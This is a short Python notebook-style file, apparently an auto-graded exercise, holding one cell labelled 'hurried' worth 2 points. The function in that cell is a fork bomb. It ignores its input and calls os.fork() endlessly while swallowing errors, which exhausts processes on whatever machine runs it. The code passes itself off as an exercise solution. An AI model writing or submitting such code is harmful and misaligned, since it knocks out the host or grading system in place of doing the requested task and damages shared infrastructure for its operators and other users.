# %%
import os

import torch


# %% exercise="hurried" points=2
def hurried(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
